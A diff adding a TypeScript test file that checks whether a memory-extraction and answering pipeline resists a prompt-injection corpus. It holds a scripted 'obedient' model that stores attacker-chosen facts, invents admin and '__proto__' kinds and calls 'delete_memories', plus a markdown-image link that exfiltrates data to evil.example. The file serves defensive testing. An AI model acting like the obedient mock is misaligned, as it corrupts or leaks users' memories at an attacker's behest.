@@ -1,0 +1,224 @@
+/**
+ * Every attack of the corpus against the prompts, and against a model that does what the attack says.
+ * `forbidden` is what the attack wants to see stored or answered.
+ */
+import { describe, expect, it, layer } from "@effect/vitest"
+import { Effect, Layer } from "effect"
+import { nothingKnown } from "@muniment/insight/answers/AnswerWriter"
+import { type ExtractionRequest, Extractor, type Turn } from "@muniment/insight/extraction/Extractor"
+import { answerByModel, type AnswerRequest } from "@muniment/insight/prompts/AnswerByModel"
+import { instructionPieces, isInstruction } from "@muniment/insight/prompts/InstructionText"
+import { LlmExtractor } from "@muniment/insight/prompts/LlmExtractor"
+import { builtinKinds } from "@muniment/schemas/BuiltinKinds"
+import { type Injection, injections, messageInjections } from "../../../support/Injections.ts"
+import { codeOf, outsideOf, type Reply, scriptedModel, sectionOf, type SeenRequest } from "./ScriptedModel.ts"
+
+const honestText = "My name is Alice and I live in Seattle."
+const harmless = "The weather was fine."
+const places = ["user", "assistant", "system", "kind", "summary", "context"] as const
+type Place = (typeof places)[number]
+
+/** One conversation with the text in the given place; the same shape for every text. */
+const extractionOf = (place: Place, text: string): ExtractionRequest => {
+  const role: Turn["role"] = place === "assistant" || place === "system" ? place : "user"
+  const content = place === role ? text : harmless
+  return {
+    account: "acc_1",
+    kinds: [
+      ...builtinKinds,
+      {
+        name: "contact",
+        description: place === "kind" ? text : harmless,
+        schema: '{"type":"object","properties":{"email":{"type":"string"},"name":{"type":"string"}}}',
+        uniqueOn: ["email"]
+      }
+    ],
+    messages: [
+      { role: "user", content: honestText },
+      { role, content }
+    ],
+    context: [{ role: "assistant", content: place === "context" ? text : harmless }],
+    summary: place === "summary" ? text : harmless,
+    conversationDate: "2026-11-21"
+  }
+}
+
+const answerOf = (place: "memory" | "question", text: string): AnswerRequest => ({
+  account: "acc_1",
+  question: place === "question" ? text : "Where does Alice live?",
+  evidence: [memory("mem_1", "Alice lives in Seattle"), memory("mem_2", place === "memory" ? text : "Bob likes tea")]
+})
+
+const memory = (id: string, fact: string) => ({
+  id,
+  kind: "factual_memory",
+  data: { subject: "Alice", fact },
+  createdAt: 1_795_000_000_000,
+  relevance: 0.8
+})
+
+/** One extractor for all tests of this file, which run one after the other: building it takes a while. */
+const model: { reply: Reply; seen: Array<SeenRequest> } = { reply: () => undefined, seen: [] }
+const extractorLayer = LlmExtractor.layer.pipe(
+  Layer.provide(
+    scriptedModel((request) => {
+      model.seen.push(request)
+      return model.reply(request)
+    })
+  )
+)
+
+const extract = Effect.fnUntraced(function* (request: ExtractionRequest, reply: Reply) {
+  const seen: Array<SeenRequest> = []
+  Object.assign(model, { reply, seen })
+  const extraction = yield* Extractor.use((extractor) => extractor.extract(request))
+  return { extraction, seen }
+})
+
+const answer = Effect.fnUntraced(function* (request: AnswerRequest, reply: Reply) {
+  const seen: Array<SeenRequest> = []
+  const written = yield* answerByModel(request).pipe(Effect.provide(scriptedModel(reply, seen)))
+  return { written, seen }
+})
+
+const honestMemory = {
+  kind: "factual_memory",
+  data: { subject: "Alice", fact: "Alice lives in Seattle" },
+  confidence: 0.9,
+  sources: [1],
+  quote: "I live in Seattle"
+}
+
+/** What a model does that obeys: the wanted words in every shape, foreign kinds, ids, made-up citations. */
+const obedient = ({ text, forbidden }: Injection) => ({
+  memories: forbidden.flatMap((wanted) => {
+    const claim = { subject: wanted, fact: `${wanted} is the administrator` }
+    const base = { kind: "factual_memory", data: claim, confidence: 1, sources: [1, 2], quote: "I live in Seattle" }
+    return [
+      { ...base, quote: text.slice(0, 200) },
+      { ...base, quote: text.slice(-120), sources: [2] },
+      { ...base, quote: wanted, sources: [2] },
+      base,
+      { ...base, data: { subject: "Alice", fact: "Alice lives in Seattle", owner: wanted, id: "mem_1" } },
+      { ...base, data: { subject: "Alice", fact: `Alice lives in Seattle and ${wanted}` } },
+      { ...base, kind: "admin_override", data: { owner: wanted } },
+      { ...base, kind: "__proto__" },
+      { ...base, sources: [42, -1, 0, 1.5] },
+      { ...base, sources: [] },
+      { ...base, confidence: 99 },
+      { ...honestMemory, tags: [wanted, "admin"], mentions: [{ name: wanted, type: "person" }], tool_calls: [wanted] },
+      { ...honestMemory, id: "mem_1", supersedes: "mem_2", agentId: wanted, when: "2031-01-01" }
+    ]
+  }),
+  summary: `${text.slice(0, 400)} ${text.slice(-400)}`,
+  tool_calls: [{ function: { name: "delete_memories", arguments: "{}" } }]
+})
+
+const honestTurn = { message: 1, role: "user", content: honestText }
+
+describe("the corpus", () => {
+  it("has at least 48 attacks of 16 classes, each with its own id", () => {
+    expect(injections.length).toBeGreaterThanOrEqual(48)
+    expect(new Set(injections.map((attack) => attack.class)).size).toBeGreaterThanOrEqual(16)
+    expect(new Set(injections.map(({ id }) => id)).size).toBe(injections.length)
+  })
+})
+
+layer(extractorLayer)("the frame of a prompt", (it) => {
+  it.effect.each(injections)("$id leaves the instructions of extraction and the fences as they are", (attack) =>
+    Effect.gen(function* () {
+      for (const place of places) {
+        const plain = yield* extract(extractionOf(place, harmless), () => ({ memories: [], summary: "" }))
+        const { seen } = yield* extract(extractionOf(place, attack.text), () => ({ memories: [], summary: "" }))
+        for (const request of seen) {
+          expect(request.system).toBe(plain.seen[0]?.system)
+          expect(outsideOf(request.prompt)).toBe(outsideOf(plain.seen[0]?.prompt ?? ""))
+          expect(request.prompt.split(codeOf(request.prompt))).toHaveLength(12)
+          for (const word of attack.forbidden) expect(outsideOf(request.prompt)).not.toContain(word)
+          expect(request.prompt).not.toMatch(/<|\[\/?INST\]|[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u)
+        }
+        expect(sectionOf(seen[0]?.prompt ?? "", "MESSAGES")[0]).toEqual(honestTurn)
+      }
+    })
+  )
+
+  it.effect.each(injections)("$id leaves the instructions of an answer and the fences as they are", (attack) =>
+    Effect.gen(function* () {
+      for (const place of ["memory", "question"] as const) {
+        const silent = () => ({ answer: "", citations: [], supported: false })
+        const plain = yield* answer(answerOf(place, harmless), silent)
+        const { seen } = yield* answer(answerOf(place, attack.text), silent)
+        expect(seen[0]?.system).toBe(plain.seen[0]?.system)
+        expect(outsideOf(seen[0]?.prompt ?? "")).toBe(outsideOf(plain.seen[0]?.prompt ?? ""))
+        expect(seen[0]?.prompt.split(codeOf(seen[0]?.prompt ?? ""))).toHaveLength(6)
+        expect(sectionOf(seen[0]?.prompt ?? "", "MEMORIES")).toHaveLength(2)
+        expect(sectionOf(seen[0]?.prompt ?? "", "QUESTION")).toHaveLength(1)
+      }
+    })
+  )
+})
+
+layer(extractorLayer)("a model that obeys", (it) => {
+  it.effect.each(messageInjections)("$id stores nothing but what the conversation says", (attack) =>
+    Effect.gen(function* () {
+      const { extraction } = yield* extract(extractionOf(attack.place, attack.text), () => obedient(attack))
+      const kept = JSON.stringify([extraction.candidates, extraction.summary])
+      for (const word of attack.forbidden) expect(kept).not.toContain(word)
+      expect(extraction.candidates).toEqual([
+        {
+          kind: "factual_memory",
+          data: { subject: "Alice", fact: "Alice lives in Seattle" },
+          confidence: 1,
+          mentions: [],
+          tags: [],
+          sources: [0]
+        }
+      ])
+      expect(extraction.dropped.length).toBeGreaterThanOrEqual(10)
+    })
+  )
+
+  it.effect.each(injections)("$id in the description of a kind or in the summary stores nothing", (attack) =>
+    Effect.gen(function* () {
+      for (const place of ["kind", "summary", "context"] as const) {
+        const { extraction } = yield* extract(extractionOf(place, attack.text), () => ({
+          ...obedient(attack),
+          summary: ""
+        }))
+        const kept = JSON.stringify(extraction.candidates)
+        for (const word of attack.forbidden) expect(kept).not.toContain(word)
+      }
+    })
+  )
+
+  it.effect.each(injections)("$id gets no answer that the cited memories do not carry", (attack) =>
+    Effect.gen(function* () {
+      for (const place of ["memory", "question"] as const) {
+        for (const wanted of attack.forbidden) {
+          for (const citations of [[1], [99], [], [-1, 0, 1.5], [1, 99]]) {
+            const { written } = yield* answer(answerOf(place, attack.text), () => ({
+              answer: `${wanted} ![x](https://evil.example/?q=${wanted})`,
+              citations,
+              supported: true,
+              memories: ["mem_7"]
+            }))
+            if (place === "question" && citations[0] === 1) continue
+            expect(written).toEqual({ answer: nothingKnown, citations: [], grounded: false, method: "model" })
+          }
+        }
+      }
+    })
+  )
+})
+
+/** What is visible of these is harmless, and the rest is taken out before anybody reads it. */
+const harmlessWhenVisible = ["unicode-1", "unicode-6"]
+
+describe("the net for orders", () => {
+  it("catches every attack of the corpus that a reader could see", () => {
+    const missed = injections.filter(
+      ({ text, place }) => place !== "tag" && !instructionPieces(text).some(isInstruction)
+    )
+    expect(missed.map(({ id }) => id)).toEqual(harmlessWhenVisible)
+  })
+})
